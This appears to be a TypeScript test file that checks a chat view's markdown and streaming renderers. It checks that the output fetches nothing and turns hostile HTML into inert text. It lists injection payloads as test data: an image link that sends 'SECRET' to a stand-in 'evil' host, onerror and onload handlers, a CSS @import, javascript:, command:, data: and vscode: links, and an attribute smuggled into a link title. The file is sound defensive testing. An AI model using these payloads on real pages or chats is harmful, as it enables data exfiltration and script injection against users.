import assert from "node:assert/strict";
import { test } from "node:test";
import { JSDOM } from "jsdom";
import { Markdown } from "../src/views/chat/page/markdown";
import { StreamedMarkdown } from "../src/views/chat/page/stream";

const { window } = new JSDOM("");
const markdown = new Markdown(window);
Object.assign(globalThis, { document: window.document });

function fetched(html: string): string[] {
  const { document } = new JSDOM(html).window;
  return [
    ...document.querySelectorAll(
      "[src],[srcset],[poster],[style],[background],object,iframe,form,script,link,svg,base,meta",
    ),
  ].map((e) => e.outerHTML);
}

test("pictures are words: nothing is fetched", () => {
  const html = markdown.html("![x](http://evil/?d=SECRET) and ![y][r]\n\n[r]: http://evil/2");
  assert.deepEqual(fetched(html), []);
  assert.doesNotMatch(html, /evil/);
});

test("HTML, scripts and other schemes stay text", () => {
  const hostile = [
    '<img src="http://evil/1" onerror="x()">',
    "<svg onload=x()>",
    "<style>@import url(http://evil)</style>",
    "[a](javascript:x())",
    "[b](command:workbench.action.quit)",
    "[c](data:text/html,x)",
    "[d](vscode://x)",
    "<https://ok.org>",
    "```html\n<script>x()</script>\n```",
    "[e](  JaVaScRiPt:x())",
    '[f](https://ok.org "t\\" onclick=x()")',
  ];
  for (const text of hostile) {
    const html = markdown.html(text);
    assert.deepEqual(fetched(html), [], text);
    const { document } = new JSDOM(html).window;
    for (const element of document.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        assert.doesNotMatch(name, /^on/, text);
        if (name === "href") assert.match(value, /^(?:https:\/\/ok\.org|#$)/, text);
      }
    }
  }
});

test("path:line becomes a link of ours, in prose and in code words", () => {
  assert.equal(
    markdown.html("in `src/a.py:7`"),
    '<p>in <code><a href="#" data-path="src/a.py" data-line="7">src/a.py:7</a></code></p>\n',
  );
});

test("text that arrives in pieces ends as text that arrives whole", () => {
  const text =
    "# Title\n\nOne *two*\nthree\n\n- a\n- b\n\n  c\n\n```py\ndef f():\n    return '```'\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nend `x`";
  const flat = (element: Element): string => element.innerHTML.replace(/<\/?div>/g, "").trim();
  const whole = window.document.createElement("div");
  new StreamedMarkdown(whole, markdown, () => undefined).update(text, false);
  for (const size of [1, 2, 5, 17]) {
    const grown = window.document.createElement("div");
    const stream = new StreamedMarkdown(grown, markdown, () => undefined);
    for (let at = size; at < text.length; at += size) stream.update(text.slice(0, at), true);
    stream.update(text, false);
    assert.equal(flat(grown), flat(whole), `pieces of ${size}`);
  }
});

test("an open code block grows in place", () => {
  const root = window.document.createElement("div");
  const stream = new StreamedMarkdown(root, markdown, () => undefined);
  stream.update("```py\na = 1\n", true);
  const node = root.querySelector("code")?.firstChild;
  stream.update("```py\na = 1\nb = 2\n", true);
  assert.equal(root.querySelector("code")?.firstChild, node);
  assert.equal(node?.textContent, "a = 1\nb = 2\n");
});
